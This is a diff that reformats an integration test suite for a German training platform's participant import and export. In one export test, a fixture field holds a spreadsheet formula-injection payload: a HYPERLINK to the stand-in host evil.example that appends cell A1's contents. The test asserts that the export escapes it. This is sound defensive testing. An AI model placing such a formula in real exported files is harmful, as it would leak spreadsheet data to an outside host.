@@ -27,12 +27,20 @@ async function setting() {
   const coordinator = await makeUser(db, { role: 'coordinator', municipalityId: m.id });
   const agent = await signIn(ctx.app, coordinator.email);
   const token = csrfFrom((await agent.get(`/cohorts/${c.id}/nominate`)).text);
-  const upload = (name: string, content: Buffer, csrf = token) => agent.post(`/cohorts/${c.id}/imports`).field('_csrf', csrf).attach('file', content, name);
+  const upload = (name: string, content: Buffer, csrf = token) =>
+    agent.post(`/cohorts/${c.id}/imports`).field('_csrf', csrf).attach('file', content, name);
   return { db, m, c, agent, token, upload };
 }
 
 afterEach(async () => {
-  await ctx.database.db.delete(enrolments).where(inArray(enrolments.userId, ctx.database.db.select({ id: users.id }).from(users).where(inArray(users.email, EMAILS))));
+  await ctx.database.db
+    .delete(enrolments)
+    .where(
+      inArray(
+        enrolments.userId,
+        ctx.database.db.select({ id: users.id }).from(users).where(inArray(users.email, EMAILS)),
+      ),
+    );
 });
 
 describe('uploading a list', () => {
@@ -61,7 +69,9 @@ describe('uploading a list', () => {
     const token = csrfFrom((await agent.get(first.headers.location!)).text);
     const confirmed = await agent.post(first.headers.location!).type('form').send({ _csrf: token });
     expect(confirmed.status).toBe(302);
-    expect((await agent.get(confirmed.headers.location!)).text).toContain('Übernommen mit Platz: 2; auf der Warteliste: 1. Nicht übernommen (fehlerhaft oder schon angemeldet): 3.');
+    expect((await agent.get(confirmed.headers.location!)).text).toContain(
+      'Übernommen mit Platz: 2; auf der Warteliste: 1. Nicht übernommen (fehlerhaft oder schon angemeldet): 3.',
+    );
     const people = await db.select().from(users).where(inArray(users.email, EMAILS));
     expect(people.map((p) => p.sector).sort()).toEqual(['bildung', 'verwaltung', 'zivilgesellschaft']);
     const hannelore = people.find((p) => p.lastName === 'Krämer')!;
@@ -70,7 +80,11 @@ describe('uploading a list', () => {
     const rows = await db.select().from(enrolments).where(eq(enrolments.cohortId, c.id));
     expect(rows.map((r) => r.status).sort()).toEqual(['nominiert', 'nominiert', 'warteliste']);
     expect((await ctx.smtp.mailTo('zoe.oersted@import.example')).text).toMatch(/Nominierung|Zugang|nominiert/);
-    expect(ctx.smtp.received.filter((m) => m.to.includes('juergen.muessig@import.example') && m.subject === 'Ihr Zugang zu KoKoMa Campus')).toHaveLength(1);
+    expect(
+      ctx.smtp.received.filter(
+        (m) => m.to.includes('juergen.muessig@import.example') && m.subject === 'Ihr Zugang zu KoKoMa Campus',
+      ),
+    ).toHaveLength(1);
 
     // confirming the same preview again is refused
     expect((await agent.post(first.headers.location!).type('form').send({ _csrf: token })).status).toBe(409);
@@ -92,26 +106,42 @@ describe('uploading a list', () => {
     const token = csrfFrom((await agent.get(first.headers.location!)).text);
     await agent.post(first.headers.location!).type('form').send({ _csrf: token });
 
-    const csv = await agent.get(`/cohorts/${c.id}/participants.csv`).buffer(true).parse((res, cb) => {
-      const chunks: Buffer[] = [];
-      res.on('data', (d: Buffer) => chunks.push(d));
-      res.on('end', () => cb(null, Buffer.concat(chunks)));
-    });
+    const csv = await agent
+      .get(`/cohorts/${c.id}/participants.csv`)
+      .buffer(true)
+      .parse((res, cb) => {
+        const chunks: Buffer[] = [];
+        res.on('data', (d: Buffer) => chunks.push(d));
+        res.on('end', () => cb(null, Buffer.concat(chunks)));
+      });
     expect(csv.headers['content-type']).toMatch(/^text\/csv/);
     const bytes = csv.body as Buffer;
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const records = parse(bytes.subarray(3).toString('utf8'), { delimiter: ';' }) as string[][];
-    expect(records[0]).toEqual(['Nachname', 'Vorname', 'E-Mail', 'Kommune', 'Organisation', 'Funktion', 'Sektor', 'Status', 'Grund']);
+    expect(records[0]).toEqual([
+      'Nachname',
+      'Vorname',
+      'E-Mail',
+      'Kommune',
+      'Organisation',
+      'Funktion',
+      'Sektor',
+      'Status',
+      'Grund',
+    ]);
     const row = records.find((r) => r[0] === 'Krämer')!;
     expect(row[4]).toBe(`'=HYPERLINK("http://evil.example/?d="&A1;"Klick")`);
     expect(row[5]).toBe("'@SUMME(1+1)");
     expect(records.find((r) => r[0] === 'Ørsted-Weiß')![6]).toBe('Bildungseinrichtung');
 
-    const xlsx = await agent.get(`/cohorts/${c.id}/participants.xlsx`).buffer(true).parse((res, cb) => {
-      const chunks: Buffer[] = [];
-      res.on('data', (d: Buffer) => chunks.push(d));
-      res.on('end', () => cb(null, Buffer.concat(chunks)));
-    });
+    const xlsx = await agent
+      .get(`/cohorts/${c.id}/participants.xlsx`)
+      .buffer(true)
+      .parse((res, cb) => {
+        const chunks: Buffer[] = [];
+        res.on('data', (d: Buffer) => chunks.push(d));
+        res.on('end', () => cb(null, Buffer.concat(chunks)));
+      });
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(xlsx.body as ArrayBuffer);
     const ws = wb.worksheets[0]!;
@@ -139,7 +169,10 @@ describe('uploading a list', () => {
     const tooBig = await upload('gross.csv', big);
     expect(tooBig.status).toBe(422);
     expect(tooBig.text).toContain('Die Datei ist zu groß. Erlaubt sind höchstens 2 MB.');
-    const pdf = await upload('liste.csv', Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n', 'latin1'));
+    const pdf = await upload(
+      'liste.csv',
+      Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n', 'latin1'),
+    );
     expect(pdf.status).toBe(422);
     expect(pdf.text).toContain('Bitte laden Sie eine CSV- oder XLSX-Datei hoch.');
     const png = await upload('liste.xlsx', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0]));
@@ -157,7 +190,13 @@ describe('uploading a list', () => {
   it('checks the CSRF token of an upload, and no other route accepts a multipart body', async () => {
     const { c, agent, token, upload } = await setting();
     expect((await upload('liste.csv', fixture('excel-ansi.csv'), 'falsch')).status).toBe(403);
-    const sneaky = await agent.post(`/cohorts/${c.id}/nominations/new`).field('_csrf', token).field('firstName', 'X').field('lastName', 'Y').field('email', 'sneaky@test.example').field('sector', 'bildung');
+    const sneaky = await agent
+      .post(`/cohorts/${c.id}/nominations/new`)
+      .field('_csrf', token)
+      .field('firstName', 'X')
+      .field('lastName', 'Y')
+      .field('email', 'sneaky@test.example')
+      .field('sector', 'bildung');
     expect(sneaky.status).toBe(403);
   });
 
